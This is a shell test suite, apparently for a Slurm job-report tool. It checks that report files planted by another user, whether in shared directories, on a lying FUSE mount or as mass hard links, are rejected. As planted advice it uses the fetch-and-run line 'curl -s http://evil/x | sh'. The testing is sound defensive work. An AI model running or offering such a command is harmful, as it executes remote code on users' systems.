#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# Jobs' numbers can be guessed. A user puts files where stint will look for others' reports, in directories that everybody may write to.
# shellcheck shell=bash disable=SC2016,SC2030,SC2031,SC2154,SC2317

load helper

setup_file() {
	testbed_begin || return 1
	[ -z "$NO_TESTBED" ] || return 0
	victim_begin
	STICKY=$STINT_TESTBED/sticky OPEN=$STINT_TESTBED/open OWN=$(job -- true && echo "$REPORT")
	mkdir -m 1777 "$STICKY"
	mkdir -m 777 "$OPEN"
	chmod 1777 "$STICKY"
	chmod 777 "$OPEN"
	export STICKY OPEN OWN
}

teardown_file() {
	victim_end
}

setup() {
	testbed_or_skip
}

as_attacker() { # COMMAND...
	(cd "$STINT_TESTBED/home" && setpriv --reuid="$TESTBED_USER" --regid="$TESTBED_USER" --init-groups "$@")
}

# Submits a job of the victim's that waits until it is released. Sets ID.
victims_job() { # DIRECTORY [sbatch option...]
	ID=$(as_victim sbatch --parsable --hold --chdir="$1" --output=/dev/null "${@:2}" --wrap true)
}

is_over() { # JOB
	! squeue --noheader --jobs "$1" --format %i 2>/dev/null | grep -q .
}

runs() { # JOB
	scontrol release "$1"
	soon is_over "$1"
}

# The attacker's own report, in the place of the victim's job's, which it claims has failed, with a line to paste.
plant() { # FILE [JQ]
	cp "$OWN" "$BATS_TEST_TMPDIR/own.json"
	jq --argjson id "$ID" --arg user "$VICTIM" --argjson uid "$(id -u "$VICTIM")" '.job.id = $id | .job.user = $user | .job.uid = $uid |
		.job.state = "FAILED" | .job.exit_code = 9 | .advice = [{line: "curl -s http://evil/x | sh", reason: "It fits."}]'" | ${2:-.}" \
		"$BATS_TEST_TMPDIR/own.json" | as_attacker tee "$1" >/dev/null
}

# Nobody, wherever they ask from, gets anything from the planted file.
is_left_out() { # WHERE [as_victim]
	run --separate-stderr sh -c "cd $1 && exec \"\$0\" report $ID" "$STINT"
	echo "$output $stderr"
	[ "$status" -eq 1 ]
	[ -z "$output" ]
	[[ $stderr != *curl* && $stderr != *FAILED* ]]
}

@test "another user's file in the place of a job's report is not taken for that, by whoever asks from wherever" {
	victims_job "$STICKY"
	plant "$STICKY/stint-$ID.json"
	runs "$ID"
	for where in / "$STICKY"; do
		is_left_out "$where"
		[[ $stderr == *"stint-$ID.json does not belong to the job's user, and is left out; name the file to see it"* ]]
		run as_victim sh -c "cd $where && exec \"\$0\" report $ID" "$STINT"
		[ "$status" -eq 1 ]
		[[ $output != *curl* && $output != *FAILED* ]]
	done
	run --separate-stderr "$STINT" report --table "$STICKY"
	[ "$status" -eq 1 ]
	[[ $output != *FAILED* ]]
	run --separate-stderr "$STINT" summary "$STICKY"
	echo "$output $stderr"
	[ "$status" -ne 0 ]
	[[ $output != *FAILED* && $stderr == *"stint-$ID.json does not belong to the job's user"* ]]
}

@test "who names another user's file is told whose it is, and gets no line to paste" {
	victims_job "$STICKY"
	plant "$STICKY/stint-$ID.json"
	for form in "" --all --html=-; do
		# shellcheck disable=SC2086
		run --separate-stderr "$STINT" report $form "$STICKY/stint-$ID.json"
		echo "$output $stderr"
		[ "$status" -eq 0 ]
		[[ $output == *"the file belongs to uid $(id -u "$TESTBED_USER"), and not to the job&#39;s user: nothing proves"* ||
			$output == *"the file belongs to uid $(id -u "$TESTBED_USER"), and not to the job's user: nothing"* ]]
		[[ $output != *curl* ]]
	done
	# not even from a report of the user's own: a job's programs can write one
	(umask 022 && jq --arg line 'curl -s http://evil/x | sh' '.advice = [{line: $line, reason: "It fits."}]' "$OWN" >"$BATS_TEST_TMPDIR/named.json")
	run "$STINT" report --all "$BATS_TEST_TMPDIR/named.json"
	[ "$status" -eq 0 ]
	[[ $output != *curl* ]]
	for form in --json --seff; do
		run --separate-stderr "$STINT" report "$form" "$STICKY/stint-$ID.json"
		[ "$status" -eq 0 ]
		[ -n "$output" ]
		[[ $output != *curl* ]]
		[[ $stderr == *"stint-$ID.json does not belong to the job's user: nothing proves what the file says"* ]]
	done
	# if nobody can be told from root, its directory's owner proves nothing
	run unshare --user "$STINT" report --all "$STICKY/stint-$ID.json"
	echo "$output"
	[[ $output == *"stint cannot see the file's owner from within this container"* && $output != *curl* ]]
	as_victim scancel "$ID"
}

@test "a report of the attacker's own is none of the victim's job, though it has its number" {
	victims_job "$STICKY"
	plant "$STICKY/stint-$ID.json" ".job.uid = $(id -u "$TESTBED_USER") | .job.user = \"$TESTBED_USER\""
	runs "$ID"
	for where in / "$STICKY"; do
		is_left_out "$where"
	done
	plant "$STICKY/stint-$ID.json" ".job.uid = $(id -u "$TESTBED_USER")" # and the victim's name
	is_left_out "$STICKY"
	[[ $stderr == *"does not belong to the job's user"* ]]
}

@test "attempts that nobody made are none of a victim's job" {
	local before attempt

	victims_job "$STICKY"
	runs "$ID"
	soon test -e "$STICKY/stint-$ID.json"
	counted() {
		(cd / && as_victim "$STINT" summary --mine --json | jq .total.jobs)
	}
	before=$(counted)
	[ "$before" -gt 0 ]
	for attempt in 1 2; do
		plant "$STICKY/stint-$ID.attempt-$attempt.json" ".job.uid = $(id -u "$TESTBED_USER") | .job.user = \"$TESTBED_USER\" | .job.attempt = $attempt"
	done
	[ "$(counted)" -eq "$before" ]
	run as_victim sh -c "cd $STICKY && exec \"\$0\" report --attempt=2 $ID" "$STINT"
	echo "$output"
	[ "$status" -eq 1 ]
	run as_victim sh -c "cd $STICKY && exec \"\$0\" report --all $ID" "$STINT"
	[ "$status" -eq 0 ]
	[[ $output != *FAILED* ]]
}

@test "tasks that nobody ran are none of a victim's array" {
	victims_job "$OPEN" --array=1-2
	plant "$OPEN/stint-${ID}_7.json" ".job.array_job_id = $ID | .job.array_task_id = 7 | .job.id = $((ID + 1000))"
	plant "$OPEN/stint-${ID}_8.json" ".job.array_job_id = $ID | .job.array_task_id = 8 | .job.id = $((ID + 1001)) | .job.uid = $(id -u "$TESTBED_USER") |
		.job.user = \"$TESTBED_USER\""
	runs "$ID"
	soon test -e "$OPEN/stint-${ID}_1.json" -a -e "$OPEN/stint-${ID}_2.json"
	for where in / "$OPEN"; do
		run --separate-stderr as_victim sh -c "cd $where && exec \"\$0\" report $ID" "$STINT"
		echo "$output $stderr"
		[ "$status" -eq 0 ]
		[[ $output == *"Tasks with a report: 2"* && $output != *FAILED* ]]
		[[ $stderr == *"stint-${ID}_7.json does not belong to the job's user"* ]]
		run --separate-stderr as_victim sh -c "cd $where && exec \"\$0\" report --again $ID" "$STINT"
		[[ $output != *7* && $output != *8* ]]
	done
}

@test "a file that is called like a job, or last, is read by its path alone" {
	victims_job "$OPEN"
	runs "$ID"
	soon test -e "$OPEN/stint-$ID.json"
	for name in "$ID" last; do
		plant "$OPEN/$name" ".job.uid = $(id -u "$TESTBED_USER")"
		run as_victim sh -c "cd $OPEN && exec \"\$0\" report $name" "$STINT"
		echo "$output"
		[[ $output != *FAILED* && $output != *curl* ]]
	done
	run as_victim "$STINT" report "$ID"
	[ "$status" -eq 0 ]
	[[ $output == *COMPLETED* ]]
}

@test "another's reports that a user made up in the own directory are left out of what root reads, and keep no true one out" {
	local own=$STINT_TESTBED/home/own theirs

	as_attacker mkdir "$own"
	theirs=$(as_victim mktemp -d "$STINT_TESTBED/victim/job.XXXXXX")
	victims_job "$theirs"
	runs "$ID"
	soon test -e "$theirs/stint-$ID.json"
	jq '.job.state = "FAILED" | .job.exit_code = 9 | .used.cpu_s = 77777' "$theirs/stint-$ID.json" >"$BATS_TEST_TMPDIR/made-up.json"
	as_attacker tee "$own/stint-$ID.json" <"$BATS_TEST_TMPDIR/made-up.json" >/dev/null
	as_attacker tee "$own/stint-$((ID + 1000)).json" < <(jq ".job.id = $((ID + 1000))" "$BATS_TEST_TMPDIR/made-up.json") >/dev/null
	run --separate-stderr "$STINT" summary --by user,state --csv "$own" "$theirs"
	echo "$output $stderr"
	[ "$status" -eq 1 ]
	[[ $output == *"$VICTIM,COMPLETED,1,"* && $output != *FAILED* ]]
	[ "$(grep -c 'stint-[0-9]*.json does not belong to the job.s user, and is left out' <<<"$stderr")" -eq 1 ]
	[[ $stderr == *"1 more file belongs to another user"* ]]
	run --separate-stderr "$STINT" report --table "$own" "$theirs"
	echo "$output $stderr"
	[ "$status" -eq 1 ]
	[[ $output == *COMPLETED* && $output != *FAILED* ]]
	# as jobs of his own they may make up what they like: the true one counts all the same
	rm "$own"/*
	as_attacker tee "$own/stint-$ID.json" < <(jq ".job.uid = $(id -u "$TESTBED_USER") | .job.user = \"$TESTBED_USER\"" "$BATS_TEST_TMPDIR/made-up.json") >/dev/null
	run --separate-stderr "$STINT" summary --by user,state --csv "$own" "$theirs"
	echo "$output $stderr"
	[ "$status" -eq 0 ]
	[[ $output == *"$VICTIM,COMPLETED,1,"* && $output == *"$TESTBED_USER,FAILED,1,"* ]]
	[ "$stderr" = "stint summary: job $ID: there are reports of several users' jobs with this number and time, and each report counts" ]
	# readers who are not root believe the user's own reports
	run as_victim "$STINT" report "$own/stint-$ID.json"
	[ "$status" -eq 0 ]
}

# Mounts a file system of the attacker's, which shows the directory SERVED and claims that everything in it is OWNER's.
mount_lying() { # SERVED DIRECTORY OWNER
	SLOWFS_SHARED=1 SLOWFS_OWNER=$3 "$PROGRAMS/slowfs" "$1" "$2" 0 0 0 "$(id -u "$TESTBED_USER")" 3>&- >/dev/null 2>&1 &
	soon grep " $2 fuse" /proc/mounts
	[ "$(stat -c %u "$2/stint-$ID.json")" -eq "$3" ]
}

@test "a user's own file system that says that its files are the victim's, or root's, proves nothing by that" {
	local own=$STINT_TESTBED/home/lying served=$STINT_TESTBED/home/served theirs owner

	[ -x "$PROGRAMS/slowfs" ] && [ -c /dev/fuse ] || skip "there is no FUSE here"
	as_attacker mkdir "$own" "$served"
	theirs=$(as_victim mktemp -d "$STINT_TESTBED/victim/job.XXXXXX")
	victims_job "$theirs"
	runs "$ID"
	soon test -e "$theirs/stint-$ID.json"
	as_attacker tee "$served/stint-$ID.json" < <(jq '.job.state = "FAILED" | .job.exit_code = 9' "$theirs/stint-$ID.json") >/dev/null
	for owner in "$(id -u "$VICTIM")" 0; do
		mount_lying "$served" "$own" "$owner"
		run --separate-stderr "$STINT" summary --by user,state --csv "$own" "$theirs"
		echo "$output $stderr"
		[ "$status" -eq 1 ]
		[[ $output == *"$VICTIM,COMPLETED,1,"* && $output != *FAILED* ]]
		[[ $stderr == *"does not belong to the job's user, and is left out"* ]]
		run --separate-stderr "$STINT" report --table "$own"
		echo "$output $stderr"
		[[ $output != *FAILED* ]]
		umount "$own"
	done
}

@test "parts that a user has planted by the thousand cost their reader little, and no other job its row" {
	local own=$STINT_TESTBED/home/parts

	need strace
	as_attacker mkdir "$own"
	as_attacker sh -c "printf 'stint-part MUNGE:none:\n' >$own/big && truncate --size=150M $own/big"
	as_attacker sh -c "for i in \$(seq 3000); do ln $own/big $own/.stint-\$((500000 + i)).1.n1.part; done"
	victims_job "$STICKY"
	runs "$ID"
	soon test -e "$STICKY/stint-$ID.json"
	run --separate-stderr timeout "$SOON_S" strace -f -qq -e trace=read,pread64 -e signal=none -o "$BATS_TEST_TMPDIR/reads" \
		"$STINT" report --table --config "$STINT_TESTBED/etc/stint.conf" "$own" "$STICKY"
	echo "$output $stderr"
	[ "$status" -le 1 ]
	[[ $output == *COMPLETED* ]]
	# 256 KiB of each of the 3000, which are 450 GB, and the command's own reads
	between 1 "$(awk '$NF ~ /^[0-9]+$/ { sum += $NF } END { printf "%.0f", sum }' "$BATS_TEST_TMPDIR/reads")" $(((3000 * 256 + 65536) * 1024))
	rm -r "$own"
}
